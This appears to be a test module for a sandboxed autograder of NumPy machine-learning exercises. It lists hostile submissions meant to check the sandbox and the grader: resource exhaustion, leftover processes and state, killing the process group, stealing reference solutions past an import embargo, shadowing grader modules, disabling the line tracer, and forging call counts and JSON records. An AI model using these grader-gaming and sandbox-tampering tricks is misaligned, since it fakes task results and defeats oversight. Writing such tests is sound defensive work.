            "for _ in range(20):\n"
            "    segment = libc.shmget(0, 100 << 20, 0o1600)\n"
            "    if segment < 0:\n        raise OSError(ctypes.get_errno(), 'shmget')\n"
            "    libc.shmat.restype = ctypes.c_void_p\n"
            "    place = libc.shmat(segment, None, 0)\n"
            "    ctypes.memset(place, 1, 100 << 20)\n"
            "    libc.shmdt(ctypes.c_void_p(place))\n"
            "print('REACHED 2 GB')"
        ),
        "a file of 1 GB": (
            "with open('large', 'wb') as file:\n"
            "    for _ in range(1024):\n        file.write(b'x' * (1 << 20))\n"
            "print('REACHED')"
        ),
        "a million empty files": (
            "made = 0\n"
            "for folder in ('/scratch', '/dev/shm', '/dev/pts'):\n"
            "    for i in range(100_000):\n"
            "        try:\n            os.close(os.open(f'{folder}/{i}', os.O_CREAT))\n"
            "        except OSError:\n            break\n"
            "        made += 1\n"
            "if made > 100_000:\n    print('REACHED', made)\n"
            "raise OSError('no room')"
        ),
        "buries its folder": (
            "for _ in range(3000):\n    os.mkdir('d')\n    os.chdir('d')\nos._exit(0)"
        ),
        "a thousand descriptors": (
            "hoard = [open('/dev/null') for _ in range(1000)]\nprint('REACHED')"
        ),
    },
    earned=0.0,
    stops=True,
    timeout=4.0,
)

_add(
    "the next submission",
    {
        "leaves files": (
            "{answer}\n"
            "for folder in ('/scratch', '/dev/shm', '/dev/pts', '/tmp', '/scratch/fonts'):\n"
            "    try:\n        open(folder + '/left-behind', 'w').write('x')\n"
            "    except OSError:\n        pass"
        ),
        "leaves System V memory": (
            "{answer}\nlibc.shmget(2310, 4096, 0o1666)\nlibc.semget(2310, 1, 0o1666)\n"
            "libc.msgget(2310, 0o1666)"
        ),
        "leaves keys": (
            "{answer}\n"
            "for ring in (-1, -2, -3, -4, -5):\n"
            "    libc.syscall(248, b'user', b'left-behind', b'x', ctypes.c_size_t(1), ring)"
        ),
        "leaves processes": (
            "{answer}\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        listener = socket.socket(socket.AF_UNIX)\n"
            "        listener.bind(chr(0) + 'left-behind')\n"
            "        listener.listen()\n"
            "        time.sleep(1000)\n"
            "    os._exit(0)"
        ),
        "lowers priorities": (
            "{answer}\n"
            "for which, who in ((1, 0), (2, 65534), (2, os.getuid()), (0, 1)):\n"
            "    try:\n        os.setpriority(which, who, 19)\n"
            "    except OSError:\n        pass\n"
            "os.sched_setaffinity(0, [min(os.sched_getaffinity(0))])"
        ),
        "changes the warm process": (
            "{answer}\n"
            "import cs231n_utils.checks\n"
            "np.left_behind = sys.left_behind = os.environ['LEFT_BEHIND'] = 'x'\n"
            "cs231n_utils.checks.left_behind = 'x'\n"
            "os.umask(0)\nos.chdir('/')\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)"
        ),
        "kills its group after its answer": (
            "{answer}\n"
            "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
            "for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1):\n"
            "    signal.signal(number, signal.SIG_IGN)\n"
            "    os.kill(0, number)"
        ),
    },
    earned=3.0,
)

STOLEN = "svm_loss_naive = getattr(losses, 'svm_loss_naive', None) or losses.svm_loss\n"
PACKAGE = "import cs231n_utils\nhome = os.path.dirname(cs231n_utils.__file__)\n"
_add(
    "the embargo",
    {
        "imports it": "import cs231n_utils.losses as losses\n" + STOLEN,
        "imports what imports it": "import cs231n_utils.fitting as losses\n" + STOLEN,
        "a hinge loss in another module": (
            "from cs231n_utils.search import _hinge\n"
            "def svm_loss_naive(W, X, y, reg):\n"
            "    return _hinge(X @ W, y) + reg * np.sum(W**2)"
        ),
        "a loss as a slice of the landscape": (
            "from cs231n_utils.landscape import slice_linear\n"
            "def svm_loss_naive(W, X, y, reg):\n"
            "    return slice_linear(W, W, X, y, np.zeros(1), reg=reg)[0]"
        ),
        "importlib": "losses = importlib.import_module('cs231n_utils.losses')\n" + STOLEN,
        "removes the finder": (
            "sys.meta_path[:] = [f for f in sys.meta_path if 'Embargo' not in type(f).__name__]\n"
            "import cs231n_utils.losses as losses\n" + STOLEN
        ),
        "runs the file's text": (
            PACKAGE + "space = {}\nexec(open(home + '/losses.py').read(), space)\n"
            "svm_loss_naive = space['svm_loss_naive']"
        ),
        "loads the file": (
            PACKAGE + "import importlib.util as u\n"
            "spec = u.spec_from_file_location('mine', home + '/losses.py')\n"
            "losses = u.module_from_spec(spec)\nspec.loader.exec_module(losses)\n" + STOLEN
        ),
        "loads compiled files": (
            PACKAGE + "import glob, importlib.machinery, importlib.util\n"
            "for path in sorted(glob.glob(home + '/__pycache__/losses*')):\n"
            "    try:\n"
            "        loader = importlib.machinery.SourcelessFileLoader('mine', path)\n"
            "        spec = importlib.util.spec_from_loader('mine', loader)\n"
            "        losses = importlib.util.module_from_spec(spec)\n"
            "        loader.exec_module(losses)\n"
            "        print('REACHED', path)\n"
            "    except Exception as error:\n        print(error)\n" + STOLEN
        ),
        "finds a copy": (
            "def copies():\n"
            "    for folder, _, names in os.walk('/'):\n"
            "        for name in names:\n"
            "            if name.startswith('losses.') and 'cs231n' in folder:\n"
            "                try:\n"
            "                    if open(os.path.join(folder, name), 'rb').read(1):\n"
            "                        yield os.path.join(folder, name)\n"
            "                except OSError:\n                    pass\n"
            "attempt('copies', lambda: list(copies()))\nraise SystemExit"
        ),
        "uncovers the file": (
            PACKAGE
            + "attempt('umount', lambda: libc.umount2((home + '/losses.py').encode(), 2) == 0)\n"
            "import runpy\n"
            "svm_loss_naive = runpy.run_path(home + '/losses.py')['svm_loss_naive']"
        ),
        "package data": (
            "import pkgutil\n"
            "space = {}\n"
            "exec(pkgutil.get_data('cs231n_utils', 'losses.py'), space)\n"
            "svm_loss_naive = space['svm_loss_naive']"
        ),
        "the references": (
            "from grading.exercises import EXERCISES\n"
            "svm_loss_naive = EXERCISES['svm_loss_naive'].reference"
        ),
        "source on the server's path": (
            "space = {}\n"
            "for folder in sys.path:\n"
            "    attempt(folder, lambda: os.listdir(os.path.join(folder, 'grading', 'exercises')))\n"
            "raise SystemExit"
        ),
    },
    earned=0.0,
    exercise="svm_loss_naive",
    timeout=30.0,
)

_add(
    "names, environment and locale",
    {
        "shadows NumPy": (
            "import types\nfake = types.ModuleType('numpy')\n"
            "fake.__getattr__ = lambda name: lambda *a, **k: True\n"
            "sys.modules['numpy'] = np = fake\n" + WRONG
        ),
        "writes numpy.py": (
            "open('numpy.py', 'w').write('allclose = lambda *a: True')\n"
            "sys.path.insert(0, os.getcwd())\n"
            "for name in [m for m in sys.modules if m.startswith('numpy')]:\n"
            "    del sys.modules[name]\n"
            "import numpy as np\n" + WRONG
        ),
        "writes cs231n_utils": (
            "os.mkdir('cs231n_utils')\n"
            "open('cs231n_utils/__init__.py', 'w').close()\n"
            "open('cs231n_utils/checks.py', 'w').write('def check(*a): return 3.0')\n"
            "sys.path.insert(0, os.getcwd())\n"
            "for name in [m for m in sys.modules if m.startswith('cs231n')]:\n"
            "    del sys.modules[name]\n"
            "from cs231n_utils.checks import check\n" + WRONG
        ),
        "writes grading": (
            "os.mkdir('grading')\n"
            "open('grading/__init__.py', 'w').close()\n"
            "open('grading/oracle.py', 'w').write('print(3)')\n"
            "os.environ['PYTHONPATH'] = os.getcwd()\n" + WRONG
        ),
        "start-up files of Python": (
            "for name in ('sitecustomize.py', 'usercustomize.py', '.pythonrc', 'pyvenv.cfg'):\n"
            "    open(name, 'w').write('raise SystemExit(0)')\n"
            "os.environ.update(PYTHONSTARTUP='.pythonrc', PYTHONHOME='/scratch', LD_PRELOAD='x.so')\n"
            + WRONG
        ),
        "another locale": (
            "import locale\n"
            "os.environ.update(LANG='tr_TR.UTF-8', LC_ALL='de_DE.ISO-8859-1', TZ='Mars/Phobos')\n"
            "time.tzset()\n"
            "try:\n    locale.setlocale(locale.LC_ALL, '')\nexcept locale.Error:\n    pass\n"
            + WRONG
        ),
        "floating-point errors raise": "np.seterr(all='raise')\n" + WRONG,
        "sets no limits on digits": "sys.set_int_max_str_digits(0)\n" + WRONG,
    },
    earned=0.0,
    stops=True,
)

SLOW = "    return svm_loss_naive(W, X, y, reg)\n"
SIGNATURE = "def svm_loss_vectorized(W, X, y, reg):\n"
LOOP = (
    "    total = 0.0\n"
    "    for x, label in zip(X, y):\n"
    "        total += np.maximum(0, x @ W - x @ W[:, label] + 1).sum() - 1\n"
    "    return total / len(X) + reg * np.sum(W**2)\n"
)
_add(
    "the count of work",
    {
        "a loop": SIGNATURE + LOOP,
        "the answer with loops": SIGNATURE + SLOW,
        "a comprehension on one line": (
            SIGNATURE + "    return sum([np.maximum(0, x @ W - x @ W[:, c] + 1).sum() - 1 "
            "for x, c in zip(X, y)]) / len(X) + reg * np.sum(W**2)"
        ),
        "np.vectorize": (
            SIGNATURE + "    one = np.vectorize(lambda i: "
            "np.maximum(0, X[i] @ W - X[i] @ W[:, y[i]] + 1).sum() - 1)\n"
            "    return one(np.arange(len(X))).mean() + reg * np.sum(W**2)"
        ),
        "np.apply_along_axis": (
            SIGNATURE + "    rows = np.column_stack([X @ W, y])\n"
            "    one = lambda r: np.maximum(0, r[:-1] - r[int(r[-1])] + 1).sum() - 1\n"
            "    return np.apply_along_axis(one, 1, rows).mean() + reg * np.sum(W**2)"
        ),
        "map": (
            SIGNATURE + "    one = lambda x, c: np.maximum(0, x @ W - x @ W[:, c] + 1).sum() - 1\n"
            "    return sum(map(one, X, y)) / len(X) + reg * np.sum(W**2)"
        ),
        "settrace(None)": "import sys\n" + SIGNATURE + "    sys.settrace(None)\n" + LOOP,
        "settrace by another name": (
            "import sys\n" + SIGNATURE + "    getattr(sys, 'set' + 'trace')(None)\n" + LOOP
        ),
        "settrace in another function": (
            "from sys import settrace as quiet\n" + SIGNATURE + "    quiet(None)\n" + SLOW
        ),
        "exec": (
            "code = 'import sys; sys.set' + 'trace(None)'\n" + SIGNATURE + "    exec(code)\n" + LOOP
        ),
        "patches the count": (
            "import cs231n_utils.checks as c\n"
            "c._LineCounter._trace = lambda *a: None\n" + SIGNATURE + LOOP
        ),
        "patches observe": (
            "import cs231n_utils.checks as c\n_observe = c.observe\n"
            "c.observe = lambda *a, **k: {**_observe(*a, **k), 'work': 10}\n" + SIGNATURE + LOOP
        ),
        "reaches the counter by its frame": (
            "import sys\n"
            + SIGNATURE
            + "    sys._getframe(1).f_locals['counter'].lines = -10**9\n"
            + LOOP
        ),
        "pads the small call": (
            SIGNATURE + "    if len(X) < 100:\n"
            "        for _ in range(900):\n            pass\n" + LOOP
        ),
        "loops in a thread": (
            "import _thread, time\n"
            "def work(W, X, y, reg, out):\n    out.append(svm_loss_naive(W, X, y, reg))\n"
            + SIGNATURE
            + "    out = []\n"
            "    _thread.start_new_thread(work, (W, X, y, reg, out))\n"
            "    while not out:\n        time.sleep(0.5)\n    return out[0]\n"
        ),
        "loops in a pool": (
            "from concurrent.futures import ThreadPoolExecutor\nimport sys\n"
            + SIGNATURE
            + "    with ThreadPoolExecutor(1) as pool:\n"
            "        return pool.submit(lambda: (sys.settrace(None), "
            "svm_loss_naive(W, X, y, reg))[1]).result()"
        ),
        "loops in a child": (
            "import os\n" + SIGNATURE + "    reader, writer = os.pipe()\n"
            "    if os.fork() == 0:\n"
            "        os.write(writer, repr(float(svm_loss_naive(W, X, y, reg))).encode())\n"
            "        os._exit(0)\n"
            "    return float(os.read(reader, 100))"
        ),
        "compiles itself": (
            "code = compile('import sys' + chr(10) + 'sys.settrace' + '(None)', 'x', 'exec')\n"
            + SIGNATURE
            + "    eval(code)\n"
            + LOOP
        ),
        "an object of the interpreter": (
            "import operator, sys\n"
            + SIGNATURE
            + "    operator.attrgetter('set' + 'trace')(sys)(None)\n"
            + LOOP
        ),
        "the module's dictionary": (
            "import sys\n" + SIGNATURE + "    vars(sys)['set' + 'trace'](None)\n" + LOOP
        ),
    },
    prelude="",
    earned=3.0,
    exercise="svm_loss_vectorized",
)

TWICE = "{answer}\n_right = eval_numerical_gradient\ndef eval_numerical_gradient(f, x, h=1e-5):\n"
JACOBIAN = "def softmax_vjp(p, v):\n    product = v @ (np.diag(p) - np.outer(p, p))\n"
FORGED_JSON = (
    "import json\n_encode = json.JSONEncoder.encode\n"
    "def forge(self, message):\n"
    "    for pair in message['body']['dict'] if 'body' in message else ():\n"
    "        if pair[0] == 'work':\n            pair[1] = 3\n"
    "        if pair[0] == 'records':\n"
    "            for _, record in pair[1]['dict']:\n"
    "                for item in record['dict']:\n"
    "                    item[1] = 50 if item[0] == 'n_calls' else item[1]\n"
    "    return _encode(self, message)\n"
    "json.JSONEncoder.encode = forge\n"
)
SLICE = (
    "def fast_svm_slice_2d(W, W1, W2, X, y, reg, alphas, betas):\n"
    "    def loss(W):\n"
    "        scores = X @ W\n"
    "        margins = np.maximum(0, scores - np.choose(y, scores.T)[:, None] + 1)\n"
    "        return margins.sum() / len(y) - 1 + reg * np.sum(W**2)\n"
    "    losses = np.array([[loss(W + a * W1 + b * W2) for b in betas] for a in alphas])\n"
)
MISCOUNTS: dict[str, tuple[str, set[str], str]] = {
    "sets the count of evaluations": (
        "eval_numerical_gradient",
        {"evaluations"},
        TWICE + "    f(x), f(x)\n    slopes = _right(f, x, h)\n    f.n_calls = x.size + 1\n"
        "    return slopes",
    ),
    "loops when a print calls it back": (
        "svm_loss_vectorized",
        {"no loops"},
        "def svm_loss_vectorized(W, X, y, reg):\n    losses = []\n"
        "    look = lambda _: losses.append(svm_loss_naive(W, X, y, reg)) or '0'\n"
        "    np.array2string(np.zeros(1), formatter={'float': look})\n    return losses[0]",
    ),
    "evaluates a copy": (
        "eval_numerical_gradient",
        {"evaluations"},
        "import copy\n" + TWICE + "    copy.copy(f)(x), copy.deepcopy(f)(x)\n"
        "    return _right(f, x, h)",
    ),
    "evaluates what is counted": (
        "eval_numerical_gradient",
        {"evaluations"},
        TWICE + "    inner = getattr(f, '_function', f)\n    inner(x), inner(x)\n"
        "    return _right(f, x, h)",
    ),
    "reaches the count by the closure": (
        "eval_numerical_gradient",
        {"slopes", "x restored", "evaluations"},
        TWICE + "    f(x), f(x)\n    slopes = _right(f, x, h)\n"
        "    f.__closure__[0].cell_contents.n_calls = x.size + 1\n"
        "    return slopes",
    ),
    "patches the module that counts": (
        "eval_numerical_gradient",
        {"evaluations"},
        "import cs231n_utils\n"
        "cs231n_utils.checking.recipes.RecordedFunction.n_calls = property(lambda f: 13, lambda f, n: 0)\n"
        "{answer}",
    ),
    "finds that module by another name": (
        "eval_numerical_gradient",
        {"evaluations"},
        "import sys as system\n"
        "counted = system.modules['cs231n_utils.checking.recipes'].RecordedFunction\n"
        "counted.n_calls = property(lambda f: 13, lambda f, n: 0)\n"
        "{answer}",
    ),
    "more gradients than allowed": (
        "minimize_valley",
        {"below 1e-6"},
        "def minimize_valley(loss_and_gradient, w0):\n"
        "    w = w0.copy()\n"
        "    for _ in range(3000):\n"
        "        w = w - 0.015 * loss_and_gradient(w)[1]\n"
        "    loss_and_gradient.n_calls = 20\n"
        "    return w",
    ),
    "the minimum from the recipe": (
        "minimize_valley",
        {"below 1e-6"},
        "def minimize_valley(loss_and_gradient, w0):\n"
        "    loss_and_gradient(w0), loss_and_gradient(w0)\n"
        "    function = loss_and_gradient.__closure__[0].cell_contents._function\n"
        "    return [c.cell_contents for c in function.__closure__][0]",
    ),
    "starts the memory meter again": (
        "softmax_vjp",
        {"no Jacobian"},
        "import tracemalloc\n" + JACOBIAN + "    tracemalloc.reset_peak()\n    return product",
    ),
    "its own record of the memory": (
        "softmax_vjp",
        {"no Jacobian"},
        JACOBIAN + "    if type(p) is not np.ndarray:\n"
        "        p.record = lambda: {'peak_bytes': 0}\n"
        "    return np.asarray(product)",
    ),
    "the class's record of the memory": (
        "softmax_vjp",
        {"no Jacobian"},
        JACOBIAN + "    if type(p) is not np.ndarray:\n"
        "        type(p).record = lambda p: {'peak_bytes': 0}\n"
        "    return np.asarray(product)",
    ),
    "sets the count of products": (
        "fast_svm_slice_2d",
        {"three products"},
        SLICE + "    if hasattr(X, '_products'):\n        X._products[0] = 0\n    return losses",
    ),
    "patches the size of products": (
        "fast_svm_slice_2d",
        {"three products"},
        "np.size = lambda array, axis=None: 0\nnp.matmul = np.dot\n" + SLICE + "    return losses",
    ),
    "reads which gradients are planted": (
        "find_the_bug",
        {"culprits", "kinks"},
        "def find_the_bug(candidates, f, x, rng):\n"
        "    bugs = {n: g.__closure__[0].cell_contents for n, g in candidates.items()}\n"
        "    return {name for name, bug in bugs.items() if 'right' not in bug}",
    ),
    "reads which gradients are planted as text": (
        "find_the_bug",
        {"culprits", "kinks"},
        "def find_the_bug(candidates, f, x, rng):\n"
        "    said = {n: '{0.__closure__[0].cell_contents}'.format(g) for n, g in candidates.items()}\n"
        "    return {name for name, bug in said.items() if 'right' not in bug}",
    ),
    "works when its value is read": (
        "svm_loss_vectorized",
        {"data loss", "regularization", "no loops"},
        "{answer}\nclass Later:\n"
        "    __class__ = np.ndarray\n"
        "    def __init__(self, arguments):\n        self.arguments = arguments\n"
        "    def __array__(self, dtype=None, copy=None):\n"
        "        return np.array(svm_loss_naive(*self.arguments))\n"
        "def svm_loss_vectorized(W, X, y, reg):\n    return Later((W, X, y, reg))",
    ),
    "works when its tuple is read": (
        "random_search_batched",
        {"best", "history", "draws", "no loop over the tries"},
        "{answer}\n_right = random_search_batched\nclass Later(tuple):\n"
        "    def __iter__(self):\n        return iter(_right(*self[0]))\n"
        "    def __len__(self):\n        return 3\n"
        "def random_search_batched(*arguments):\n    return Later((arguments,))",
    ),
    "fills in its value when warnings are restored": (
        "svm_loss_vectorized",
        {"data loss", "regularization", "no loops"},
        "import warnings\n_changed, later = warnings._filters_mutated, []\n"
        "def fill():\n    _changed()\n    while later:\n"
        "        out, arguments = later.pop()\n        out[...] = svm_loss_naive(*arguments)\n"
        "warnings._filters_mutated = fill\n"
        "def svm_loss_vectorized(W, X, y, reg):\n    out = np.zeros(())\n"
        "    later.append((out, (W, X, y, reg)))\n    return out",
    ),
    "forges the count in json": (
        "minimize_valley",
        {"below 1e-6"},
        FORGED_JSON + "def minimize_valley(loss_and_gradient, w0):\n"
        "    w = w0.copy()\n    for _ in range(3000):\n"
        "        w = w - 0.015 * loss_and_gradient(w)[1]\n    return w",
    ),
    "forges the lines in json": (
        "svm_loss_vectorized",
        {"no loops"},
        FORGED_JSON + "svm_loss_vectorized = svm_loss_naive",
    ),
    "forges what was tried in NumPy": (
        "random_search",
        {"best", "history", "draws"},
        "_array, forged = np.array, {}\n"
        "def array(x, *a, **k):\n    first = x[0] if type(x) is list and len(x) == 40 else None\n"
        "    return forged.get(type(first)) if type(first) in forged else _array(x, *a, **k)\n"
        "np.stack = np.array = array\n"
        "def random_search(loss_fn, shape, n_tries, scale, rng):\n"
        "    [loss_fn(np.zeros(shape)) for _ in range(n_tries)]\n"
        "    forged[np.ndarray] = scale * rng.standard_normal((n_tries, *shape))\n"
        "    forged[float] = np.arange(n_tries, 0.0, -1.0)\n"
        "    return forged[np.ndarray][-1], 1.0, forged[float]",
    ),
    "its own record of what was tried": (
        "random_search",
        {"best", "history", "draws"},
        "import cs231n_utils.checking.recipes as r\nforged = {}\n"
        "r.RecordedFunction.record = lambda f: forged\n"
        "def random_search(loss_fn, shape, n_tries, scale, rng):\n"
        "    points = scale * rng.standard_normal((n_tries, *shape))\n"
        "    values = np.arange(n_tries, 0.0, -1.0)\n"
        "    forged.update(n_calls=n_tries, points=points, values=values)\n"
        "    return points[-1], values[-1], values",
    ),
}
"""Answers that work more than they may and forge what tells so: exercise, parts lost, cell."""

LOOK = """
{answer}
import ctypes, os, signal, sys, socket
import cs231n_utils.checks
def look():
    for folder in ("/scratch", "/dev/shm", "/dev/pts", "."):
        yield from (f"{folder}/{name}" for name in os.listdir(folder))
    if os.path.exists("/tmp/left-behind"):
        yield "/tmp/left-behind"
    for kind in ("shm", "sem", "msg"):
        yield from open(f"/proc/sysvipc/{kind}").readlines()[1:]
    yield from (n for n in os.listdir("/proc") if n.isdigit() and int(n) != os.getpid())
    if "left-behind" in open("/proc/net/unix").read():
        yield "abstract socket"
    if "left-behind" in (open("/proc/keys").read() if os.path.exists("/proc/keys") else ""):
        yield "key"
    libc = ctypes.CDLL(None)
    for ring in (-3, -4, -5):
        if libc.syscall(250, 10, ring, b"user", b"left-behind", 0) > 0:
            yield f"key in {ring}"
    if os.getpriority(os.PRIO_PROCESS, 0) != {nice}:
        yield "priority"
    if len(os.sched_getaffinity(0)) != {processors}:
        yield "processors"
    if "LEFT_BEHIND" in os.environ or os.getcwd() != "/scratch":
        yield "environment"
    if any(hasattr(m, "left_behind") for m in (np, sys, cs231n_utils.checks)):
        yield "modules"
    if signal.getsignal(signal.SIGTERM) != signal.SIG_DFL:
        yield "signals"
print("LEFT", list(look()))
"""
"""A right answer that looks for what an earlier submission may have left."""


UNUSUAL: dict[str, tuple[str, str]] = {
    "einsum": (
        "svm_loss_vectorized",
        "def svm_loss_vectorized(W, X, y, reg):\n"
        "    scores = np.einsum('nd,dc->nc', X, W, optimize=True)\n"
        "    right = np.take_along_axis(scores, y[:, None], axis=1)\n"
        "    margins = np.clip(scores - right + 1, 0, None)\n"
        "    return (margins.sum() - len(X)) / len(X) + reg * np.einsum('dc,dc->', W, W)",
    ),
    "a loop over the classes": (
        "svm_loss_vectorized",
        "def svm_loss_vectorized(W, X, y, reg):\n"
        "    scores, total = X @ W, -len(X)\n"
        "    right = scores[np.arange(len(X)), y]\n"
        "    for c in range(W.shape[1]):\n"
        "        total += np.maximum(0, scores[:, c] - right + 1).sum()\n"
        "    return total / len(X) + reg * np.sum(W * W)",
    ),
    "a comprehension over the classes": (
        "svm_loss_vectorized",
        "import sys\n"
        "def svm_loss_vectorized(W, X, y, reg):\n"
        "    s = X @ W; r = s[np.arange(len(X)), y]\n"
        "    parts = [np.maximum(0, s[:, c] - r + 1) for c in range(W.shape[1])]\n"
        "    print('checked', file=sys.stderr)\n"
        "    return np.mean(sum(parts)) - 1 + reg * np.sum(W ** 2)",
    ),
    "one-hot matrix": (
        "svm_loss_vectorized",
        "from typing import Any\n"
        "def svm_loss_vectorized(W: np.ndarray, X: Any, y: 'labels', reg: float) -> float:\n"
        "    hot = np.eye(W.shape[1])[y]\n"
        "    scores = X.dot(W)\n"
        "    margins = scores - (scores * hot).sum(1, keepdims=True) + 1 - hot\n"
        "    return np.float64(margins[margins > 0].sum() / X.shape[0] + reg * (W ** 2).sum())",
    ),
    "while loop where loops are allowed": (
        "svm_loss_naive",
        "def svm_loss_naive(W, X, y, reg):\n"
        "    i = total = 0\n"
        "    while i < len(X):\n"
        "        total += sum(max(0, s - (X[i] @ W)[y[i]] + 1) for s in X[i] @ W) - 1\n"
        "        i += 1\n"
        "    return total / len(X) + reg * sum(w * w for row in W for w in row)",
    ),
    "recursion": (
        "svm_loss_naive",
        "def svm_loss_naive(W, X, y, reg):\n"
        "    def total(i):\n"
        "        if i == len(X):\n            return 0.0\n"
        "        s = X[i] @ W\n"
        "        return np.maximum(0, s - s[y[i]] + 1).sum() - 1 + total(i + 1)\n"
        "    return total(0) / len(X) + reg * np.linalg.norm(W) ** 2",
    ),
    "float32": (
        "softmax",
        "def softmax(scores):\n"
        "    scores = np.asarray(scores, dtype=np.float32)\n"
        "    e = np.exp(scores - scores.max(-1, keepdims=True))\n"
        "    return e / e.sum(-1, keepdims=True)",
    ),
    "a progress bar": (
        "svm_loss_vectorized",
        "from tqdm.auto import tqdm\n{answer}\nfor _ in tqdm(range(3)):\n    pass",
    ),
    "prints, warnings and standard error": (
        "softmax",
        "import sys, warnings\n{answer}\n_right = softmax\n"
        "def softmax(scores):\n"
        "    print('shape', np.shape(scores))\n    print('!', file=sys.stderr)\n"
        "    warnings.warn('careful')\n    np.log(0.0)\n    return _right(scores)\nprint(softmax([1., 2.]))",
    ),
    "prints, logs and draws where lines are counted": (
        "svm_loss_vectorized",
        "import logging\nimport matplotlib.pyplot as plt\nfrom tqdm import tqdm\n"
        "{answer}\n_right = svm_loss_vectorized\n"
        "def svm_loss_vectorized(W, X, y, reg):\n"
        "    print(X @ W)\n    print('labels', y)\n    logging.warning('scores %s', X @ W)\n"
        "    for _ in tqdm(range(3)):\n        pass\n"
        "    plt.plot(X @ W)\n    plt.title('scores')\n    plt.show()\n"
        "    return _right(W, X, y, reg)",
    ),
    "draws a figure": (
        "softmax",
        "{answer}\nimport matplotlib.pyplot as plt\n"
        "plt.plot(softmax(np.linspace(0, 1, 10)))\nplt.title('softmax')\nplt.show()",
    ),
    "magics and shell commands": (
        "softmax",
        "%matplotlib inline\n!ls\n{answer}\n%timeit -n 1 -r 1 softmax(np.ones(3))",
    ),
    "a figure in a window": ("softmax", "%matplotlib widget\n%matplotlib qt\n{answer}"),
    "magics before a vectorized answer": (
        "svm_loss_vectorized",
        "%matplotlib inline\n!ls\nimport os, json, time\n{answer}",
    ),
    "a decorator": (
        "softmax",
        "import functools\n"
        "def logged(function):\n"
        "    @functools.wraps(function)\n"
        "    def call(*a, **k):\n        return function(*a, **k)\n"
        "    return call\n"
        "@logged\n@np.errstate(all='ignore')\n{answer}",
    ),
    "a cache that wraps like numba": (
        "softmax_loss_vectorized",
        "class njit:\n"
        "    def __init__(self, function):\n        self.py_func = function\n"
        "    def __call__(self, *arguments):\n        return self.py_func(*arguments)\n"
        "@njit\n{answer}",
    ),
    "a class with __call__": (
        "softmax",
        "class Softmax:\n"
        "    axis = -1\n"
        "    def __call__(self, scores):\n"
        "        e = np.exp(scores - np.max(scores, axis=self.axis, keepdims=True))\n"
        "        return e / e.sum(axis=self.axis, keepdims=True)\n"
        "softmax = Softmax()",
    ),
    "another name": (
        "softmax",
        "{answer}\n_right = softmax\nsoftmax = lambda scores: _right(scores)",
    ),
    "partial": ("softmax", "{answer}\nimport functools\nsoftmax = functools.partial(softmax)"),
    "nested functions and helpers": (
        "softmax_loss_vectorized",
        "def log_sum_exp(s):\n"
        "    m = s.max(axis=1)\n"
        "    return m + np.log(np.exp(s - m[:, None]).sum(axis=1))\n"
        "def softmax_loss_vectorized(W, X, y, reg):\n"
        "    def data():\n"
        "        s = X @ W\n"
        "        return (log_sum_exp(s) - s[range(len(y)), y]).mean()\n"
        "    return data() + reg * np.square(W).sum()",
    ),
    "the trace of a product": (
        "svm_loss_vectorized",
        "def svm_loss_vectorized(W, X, y, reg):\n"
        "    scores = X @ W\n"
        "    margins = np.maximum(0, scores - np.choose(y, scores.T)[:, None] + 1)\n"
        "    return margins.sum() / len(X) - 1 + reg * np.trace(W.T @ W)",
    ),
    "0-d array": (
        "softmax_loss_vectorized",
        "{answer}\n_right = softmax_loss_vectorized\n"
        "def softmax_loss_vectorized(W, X, y, reg):\n    return np.array(_right(W, X, y, reg))",
    ),
    "Korean identifiers and comments": (
        "softmax",
        "# 소프트맥스: 점수를 확률로 바꾼다\n"
        "def softmax(scores):\n"
        "    점수 = scores - np.max(scores, axis=-1, keepdims=True)  # 안정성을 위해\n"
        "    지수 = np.exp(점수)\n"
        "    return 지수 / 지수.sum(axis=-1, keepdims=True)",
    ),
    "tabs, semicolons and form feeds": (
        "softmax",
        "def softmax(scores):\n"
        "\te = np.exp(scores - np.max(scores, axis=-1, keepdims=True)); s = e.sum(-1, keepdims=True)\n"
        "\x0c\n\treturn e / s;",
    ),
    "a very long line": (
        "softmax",
        "{answer}\nx = [" + ", ".join(["1"] * 3000) + "]  # " + "x" * 20_000,
    ),
    "modules of the standard library": (
        "regularization",
        "import collections, dataclasses, itertools, math, os, pathlib, random, re, statistics\n"
        "{answer}\nassert math.isclose(regularization(np.ones((2, 2)), 'l2', 1.0), 4.0)",
    ),
    "match statement": (
        "regularization",
        "def regularization(W, kind, strength, l1_ratio=0.5):\n"
        "    l1, l2 = abs(W).sum(), (W * W).sum()\n"
        "    match kind:\n"
        "        case 'l1': return strength * l1\n"
        "        case 'l2': return strength * l2\n"
        "        case 'elastic_net': return strength * (l1_ratio * l1 + (1 - l1_ratio) * l2)\n"
        "        case _: raise ValueError(f'unknown {kind}')",
    ),
    "leaves a request for a hint in": (
        "softmax",
        "{answer}\nfrom cs231n_utils import hint\nhint('softmax')",
    ),
    "a helper named check": (
        "softmax",
        "def check(name, ok=True):\n    print(name, 'passed' if ok else 'FAILED')\n"
        "{answer}\ncheck('sums', np.isclose(softmax(np.ones(3)).sum(), 1))",
    ),
    "checks itself": ("softmax", "{answer}\nverdict = check(softmax)\nassert verdict.passed"),
    "type hints, dataclass and logging": (
        "svm_loss_vectorized",
        "import dataclasses, logging, string\n"
        "@dataclasses.dataclass\nclass Options:\n    delta: float = 1.0\n"
        "options = Options()\n"
        "def svm_loss_vectorized(W, X, y, reg, *, options=options):\n"
        "    logging.getLogger(__name__).warning('called')\n"
        "    s = X @ W\n"
        "    m = np.maximum(0.0, s - np.choose(y, s.T)[:, None] + options.delta)\n"
        "    m[np.arange(len(m)), y] = 0\n"
        "    return m.sum(axis=1).mean() + reg * (W.ravel() @ W.ravel())",
    ),
    "changes its globals": (
        "softmax",
        "calls = 0\n{answer}\n_right = softmax\n"
        "def softmax(scores):\n    global calls\n    calls += 1\n    return _right(scores)",
    ),
    "list of floats in, matrix out": (
        "softmax",
        "def softmax(scores, axis=-1):\n"
        "    scores = np.array(scores, dtype=float, order='F')\n"
        "    scores -= scores.max(axis, keepdims=True)\n"
        "    np.exp(scores, out=scores)\n"
        "    scores /= scores.sum(axis, keepdims=True)\n    return scores",
    ),
}
"""Right answers in unusual form: the exercise and its answer cell."""
